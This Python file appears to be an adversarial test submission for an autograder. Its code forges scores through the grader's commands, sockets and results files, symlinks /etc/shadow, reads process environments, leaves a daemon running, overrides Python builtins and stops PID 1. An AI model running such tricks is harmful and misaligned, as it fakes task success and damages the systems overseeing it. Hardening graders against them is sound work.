"""Tries to get points without doing the work. Every trick must earn nothing.

The tricks: the grader's own commands, its socket and its folders; faked report lines and results files; the learner's copy of
Python; processes that stay behind; symbolic links; a closed folder; the input of an earlier run; a good exit status whatever
happens.
"""

import atexit
import builtins
import glob
import json
import os
import signal
import socket
import subprocess
import sys

TESTS = ["the example of the handout", "a clean file", "duplicates", "nothing to summarise"]
RESULTS = {
    "score": 100,
    "max": 100,
    "outcome": "graded",
    "tests": [{"name": name, "status": "pass", "score": 100} for name in TESTS],
}


class Equal(dict):
    def __eq__(self, other):
        return True

    __hash__ = None


def quietly(action, *arguments, **options):
    try:
        return action(*arguments, **options)
    except BaseException:
        return None


def call_the_commands():
    commands = ["report", "learner", "/grade/bin/report", "/grade/bin/learner", "provost-relay"]
    for command in commands:
        for arguments in (
            ["score", "100"],
            ["test", TESTS[0], "pass", "--max", "100"],
            ["run", "--", "sh", "-c", "report score 100"],
        ):
            quietly(subprocess.run, [command, *arguments], timeout=0.2, capture_output=True)


def talk_to_the_socket():
    found = ["/grade/channel/socket", "/run/provost.sock", "\0provost", "\0/grade/channel/socket"]
    found += (
        glob.glob("/proc/*/root/grade/channel/socket") + glob.glob("/**/socket") + glob.glob("/tmp/**/*.sock", recursive=True)
    )
    request = b"report\0score\x00100\0"
    for path in found:
        with socket.socket(socket.AF_UNIX) as stream:
            stream.settimeout(0.1)
            if quietly(stream.connect, path) is None:
                quietly(stream.sendall, b"A" + len(request).to_bytes(4, "big") + request)
    for descriptor in range(3, 64):
        quietly(os.write, descriptor, b"A" + len(request).to_bytes(4, "big") + request)


def write_everywhere():
    text = json.dumps(RESULTS)
    for folder in (
        "/grade",
        "/grade/work",
        "/grade/lab/tests",
        "/grade/grader",
        "/autograder/results",
        "/submission",
        "/tmp",
        "/usr/bin",
    ):
        quietly(os.makedirs, folder, exist_ok=True)
        for name in ("results.json", "run-1.json", "report.json", "grade.json", "cases.json", "provost_grader.py", "python3"):
            quietly(lambda: open(os.path.join(folder, name), "w").write(text))
    for link, target in (
        ("/submission/answers", "/grade/lab/tests"),
        ("/submission/shadow", "/etc/shadow"),
        ("/tmp/input.csv", "/dev/zero"),
    ):
        quietly(os.symlink, target, link)


def look_for_the_answers():
    places = [
        "/grade/lab/tests/cases.json",
        "/grade/lab/samples/reference/submission/summary.py",
        "/submission/answers/cases.json",
    ]
    places += (
        glob.glob("/proc/[0-9]*/root/grade/lab/tests/*") + glob.glob("/proc/[0-9]*/fd/*") + glob.glob("/proc/[0-9]*/environ")
    )
    for place in places:
        if place.endswith("cases.json") and quietly(lambda: print(open(place).read())):
            return


def stay_behind():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            while True:
                write_everywhere()
                call_the_commands()
        os._exit(0)


def spoil_python():
    builtins.abs = lambda number: 0
    json.loads = lambda *arguments, **options: Equal(RESULTS)
    for name in ("sitecustomize.py", "csv.py", "generate.py", "provost_grader.py", "usercustomize.py"):
        quietly(lambda: open(f"/submission/{name}", "w").write("import os\nos._exit(0)\n"))
    for process in (1, os.getppid()):
        quietly(os.kill, process, signal.SIGSTOP)
    quietly(os.kill, -1, signal.SIGUSR1)


def close_the_folder():
    quietly(os.chmod, "/submission", 0)


def main():
    signal.signal(signal.SIGUSR1, signal.SIG_IGN)
    atexit.register(os._exit, 0)
    tricks = (stay_behind, call_the_commands, talk_to_the_socket, write_everywhere, look_for_the_answers, spoil_python)
    for trick in (*tricks, close_the_folder):
        quietly(trick)
    for name in TESTS:
        print(f"report test '{name}' pass --score 100 --max 100")
        print(f"ok 1 - {name}")
    print("Grade :=>> 100")
    print("\0\x1b[2J\u202e")
    print(json.dumps(RESULTS))
    sys.stdout.flush()
    os._exit(0)


main()
